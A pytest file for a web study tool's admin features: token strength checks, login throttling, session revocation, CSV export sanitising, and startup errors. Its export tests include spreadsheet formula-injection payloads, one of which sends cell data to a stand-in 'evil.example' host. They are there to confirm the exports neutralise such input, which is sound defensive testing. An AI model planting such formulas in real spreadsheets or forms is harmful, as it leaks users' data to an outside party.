"""The researcher's side of the web study: token strength, login throttling, revocable admin sessions, safe CSV
exports, the admin page itself, and `serve` failing fast on a taken port or a mistyped config."""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
import socket
import time
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proceval.cli.main import main
from proceval.dataset import Dataset
from proceval.errors import HumansError
from proceval.humans import StudyConfig, create_app
from proceval.humans import storage as storage_module
from proceval.humans.admin import ADMIN_COOKIE
from proceval.humans.config import check_admin_token
from proceval.humans.export import spreadsheet_safe
from proceval.humans.throttle import FailedLogins

from .conftest import FULL_CONFIG, LiveServer, client_for, free_port, participant

TOKEN = FULL_CONFIG["admin_token"]
MAKE = 'python -c "import secrets; print(secrets.token_urlsafe(32))"'


# ------------------------------------------------------------------ token strength
@pytest.mark.parametrize("token, why", [
    ("x", "1 character long"),
    ("admin-token-for-tests-only", "26 characters long"),
    ("a" * 40, "guessable"),
    ("password" * 5, "guessable"),
    ("0123456789abcdef" * 2, "guessable"),
    ("abcdefghijklmnopqrstuvwxyz0123456789", "guessable"),
])
def test_serve_refuses_a_guessable_admin_token_before_creating_anything(
        tmp_path: Path, dataset: Dataset, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        token: str, why: str) -> None:
    monkeypatch.setenv("PROCEVAL_ADMIN_TOKEN", token)
    db = tmp_path / "s.db"
    assert main(["serve", str(dataset.path), "--db", f"sqlite:///{db}", "--port", str(free_port())]) == 2
    err = capsys.readouterr().err
    assert f"$PROCEVAL_ADMIN_TOKEN: the admin token {'is ' if 'long' in why else 'looks '}" in err
    assert why in err and MAKE in err and "Traceback" not in err
    assert token not in err and "study link" not in err
    assert not db.exists()


def test_a_guessable_token_in_the_study_config_is_named_as_such(tmp_path: Path, dataset: Dataset,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PROCEVAL_ADMIN_TOKEN", raising=False)
    config = StudyConfig(admin_token="letmein")
    with pytest.raises(HumansError, match=r"^admin_token: the admin token is 7 characters long") as info:
        create_app(dataset, config, f"sqlite:///{tmp_path / 's.db'}")
    assert info.value.hint is not None and MAKE in info.value.hint
    assert not (tmp_path / "s.db").exists()


def test_tokens_made_as_the_docs_say_are_accepted() -> None:
    # a hex token as random as any, with 17 of its 31 neighbouring characters one apart or equal: refused once
    # (1 in about 300,000 hex tokens were), which made this test fail now and then
    check_admin_token("65eded8755310018fc70bbcbcd4578ba", "t")
    for _ in range(2000):  # the generators a researcher is told to use, and a 128-bit hex token
        check_admin_token(secrets.token_urlsafe(32), "t")
        check_admin_token(secrets.token_urlsafe(24), "t")
        check_admin_token(secrets.token_hex(16), "t")


# ------------------------------------------------------------------ throttling
def test_wrong_admin_tokens_are_throttled_per_client_on_a_real_server(dataset: Dataset, config: StudyConfig,
                                                                      sqlite_url: str) -> None:
    with LiveServer(create_app(dataset, config, sqlite_url)) as server, \
            httpx.Client(base_url=server.url, follow_redirects=False) as client:
        started = time.monotonic()
        codes = [client.post("/admin/login", data={"token": f"guess-{i}"}).status_code for i in range(30)]
        elapsed = time.monotonic() - started
        assert codes == [401] * 10 + [429] * 20  # ten wrong tries, then refused without looking
        refused = client.post("/admin/login", data={"token": TOKEN})  # even the right token, while locked out
        assert refused.status_code == 429 and 1 <= int(refused.headers["retry-after"]) <= 60
        assert "Try again in" in refused.text
        # a bearer header is a guess too
        assert client.get("/admin", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 429
        assert client.get("/admin/export.csv", headers={"Authorization": "Bearer x"}).status_code == 429
        # participants are not affected
        assert client.get("/").status_code == 303
    assert elapsed < 30


def test_the_throttle_forgets_after_its_window_and_keeps_bounded_memory() -> None:
    now = [0.0]
    limits = FailedLogins(limit=3, window_s=60, max_clients=100, clock=lambda: now[0])
    for _ in range(3):
        assert limits.retry_after("a") == 0
        limits.failed("a")
    assert limits.retry_after("a") == 60 and limits.retry_after("b") == 0
    now[0] = 59.5
    assert limits.retry_after("a") == 1
    now[0] = 60.0
    assert limits.retry_after("a") == 0  # the window is over: three new tries
    for i in range(10_000):  # a flood of clients never holds more than max_clients entries
        limits.failed(f"10.0.{i // 256}.{i % 256}")
    assert len(limits) == 100


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.sampled_from("abc"), st.floats(0, 30)), max_size=80))
def test_no_client_gets_more_than_limit_tries_in_a_window(events: list[tuple[str, float]]) -> None:
    now = [0.0]
    limits = FailedLogins(limit=4, window_s=60, clock=lambda: now[0])
    tried: dict[str, list[float]] = {}
    for client, gap in events:
        now[0] += gap
        if limits.retry_after(client) == 0:  # allowed to try: it guesses wrong
            tried.setdefault(client, []).append(now[0])
            limits.failed(client)
    for times in tried.values():
        for t in times:  # any 60-second span starting at a try holds at most 2 × limit tries (two windows)
            assert sum(t <= u < t + 60 for u in times) <= 8


# ------------------------------------------------------------------ admin sessions
def test_logging_out_revokes_the_admin_cookie_everywhere(dataset: Dataset, config: StudyConfig, db_url: str) -> None:
    first, second = create_app(dataset, config, db_url), create_app(dataset, config, db_url)  # two workers
    with client_for(first) as a, client_for(second) as b:
        login = a.post("/admin/login", data={"token": TOKEN})
        assert login.status_code == 303
        cookie = a.cookies[ADMIN_COOKIE]
        assert TOKEN not in cookie and "max-age=43200" in login.headers["set-cookie"].lower()
        again = a.post("/admin/login", data={"token": TOKEN})
        assert again.cookies[ADMIN_COOKIE] != cookie  # random per login, not derived from the token
        b.cookies.set(ADMIN_COOKIE, cookie, path="/admin")
        assert b.get("/admin").status_code == 200  # the other worker knows the session
        a.cookies.clear()
        a.cookies.set(ADMIN_COOKIE, cookie, path="/admin")
        assert a.post("/admin/logout").status_code == 303
        assert b.get("/admin").status_code == 401 and b.get("/admin/export.csv").status_code == 401
        assert not first.state.study.store.admin_session_valid(cookie, first.state.study.admin_key)


def test_admin_sessions_expire_and_end_with_a_new_admin_token(dataset: Dataset, config: StudyConfig, db_url: str,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    app = create_app(dataset, config, db_url)
    with client_for(app) as client:
        client.post("/admin/login", data={"token": TOKEN})
        assert client.get("/admin").status_code == 200
        copied = client.cookies[ADMIN_COOKIE]
        real = time.time
        monkeypatch.setattr(storage_module.time, "time", lambda: real() + 12 * 3600 + 1)
        client.cookies.clear()  # a copy of the cookie ignores its max-age: the server must refuse it
        client.cookies.set(ADMIN_COOKIE, copied, path="/admin")
        assert client.get("/admin").status_code == 401  # 12 hours later
        monkeypatch.setattr(storage_module.time, "time", real)
        client.cookies.clear()
        client.post("/admin/login", data={"token": TOKEN})
        cookie = client.cookies[ADMIN_COOKIE]
    rotated = config.model_copy(update={"admin_token": "a-new-token-Vb3Nq8Wz2Kx6Lp9Rm4Tc7Yh5"})
    with client_for(create_app(dataset, rotated, db_url)) as client:
        client.cookies.set(ADMIN_COOKIE, cookie, path="/admin")
        assert client.get("/admin").status_code == 401


# ------------------------------------------------------------------ exports
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_exports_neutralise_spreadsheet_formulas_and_jsonl_keeps_them(
        dataset: Dataset, config: StudyConfig, sqlite_url: str, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    with client_for(create_app(dataset, config, sqlite_url)) as client:
        p = participant(client)
        page = p.step(p.step(p.step(p.open())))
        for formula in FORMULAS:  # one formula per trial, in the comment box
            data = dict(page.hidden, response=page.radios()["response"][0], comment=formula)
            page = p._follow(client.post("/study/trial", data=data))
        p.run()
        admin_csv = client.get("/admin/export.csv?checks=1", headers={"Authorization": f"Bearer {TOKEN}"}).text
    assert main(["humans", "export", "--db", sqlite_url, "--out", str(tmp_path / "h.csv"), "--include-checks"]) == 0
    assert main(["humans", "export", "--db", sqlite_url, "--out", str(tmp_path / "h.jsonl"), "--include-checks"]) == 0
    capsys.readouterr()
    expected = ["'" + f.strip() for f in FORMULAS]  # the app stores comments trimmed
    for text in (admin_csv, (tmp_path / "h.csv").read_text(encoding="utf-8")):
        comments = [row["comment"] for row in csv.DictReader(io.StringIO(text, newline="")) if row["comment"]]
        assert comments == expected
    raw = [json.loads(line)["comment"] for line in (tmp_path / "h.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [c for c in raw if c] == [f.strip() for f in FORMULAS]


def test_numbers_stay_numbers_in_csv() -> None:
    assert [spreadsheet_safe(v) for v in ["-2", "+3", "-0.5", 7, None, "plain", "-2 apples", "\t=1", "\r@x"]] == \
        ["-2", "+3", "-0.5", 7, "", "plain", "'-2 apples", "'\t=1", "'\r@x"]


# ------------------------------------------------------------------ the admin page
def test_the_admin_page_lists_the_number_of_items_per_list(study) -> None:  # type: ignore[no-untyped-def]
    page = study.get("/admin", headers={"Authorization": f"Bearer {TOKEN}"})
    rows = re.findall(r"<tr><td>(\d+)</td><td>([^<]*)</td>", page.text.split('id="lists"')[1])
    # 4 scenarios × 2 conditions × 2 questions, over a 2-list Latin square: 8 items per list
    assert rows == [("0", "8"), ("1", "8")]
    assert "built-in method" not in page.text


# ------------------------------------------------------------------ participants screened out
def test_a_screened_out_participant_stays_screened_out_after_reloading(study) -> None:  # type: ignore[no-untyped-def]
    p = participant(study)
    p.check_answers = {0: "skip"}
    page = p.step(p.step(p.step(p.step(p.step(p.open())))))  # consent, then the check failed twice
    assert "comprehension questions were not correct" in page.text
    cookie = study.cookies.get("proceval_session")
    for _ in range(3):
        reload = study.get("/")
        assert reload.status_code == 303 and "set-cookie" not in reload.headers
        assert "comprehension questions were not correct" in p.current().text
    assert study.cookies.get("proceval_session") == cookie
    assert [s["stage"] for s in study.app.state.study.store.sessions()] == ["screened_out"]


# ------------------------------------------------------------------ serve fails fast
def test_serve_on_a_taken_port_fails_in_one_line_before_anything_else(
        tmp_path: Path, dataset: Dataset, capsys: pytest.CaptureFixture[str]) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        db = tmp_path / "s.db"
        assert main(["serve", str(dataset.path), "--db", f"sqlite:///{db}", "--port", str(port)]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == (f"error: --port: port {port} on 127.0.0.1 is already in use: stop the program using "
                            "it or pass another --port\n")
    assert not db.exists()


def test_a_mistyped_serve_config_field_gets_its_line_and_a_suggestion(
        tmp_path: Path, dataset: Dataset, capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "study.yaml"
    config.write_text("title: Stories\nitems_per_partcipant: 12\n", encoding="utf-8")
    args = ["serve", str(dataset.path), "--study-config", str(config), "--port", str(free_port()),
            "--db", f"sqlite:///{tmp_path / 's.db'}"]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert f"{config}:2: items_per_partcipant: unknown key 'items_per_partcipant'" in err
    assert "did you mean 'items_per_participant'?" in err
    config.write_text("comprehension:\n  - question: q\n    options: [{key: a, text: A}, {key: b, text: B}]\n"
                      "    anwser: a\n", encoding="utf-8")
    assert main(args) == 2
    err = capsys.readouterr().err
    assert f"{config}:4: comprehension.0.anwser: unknown key 'anwser' (and 1 more problem)" in err
    assert "did you mean 'answer'?" in err
    assert not (tmp_path / "s.db").exists()
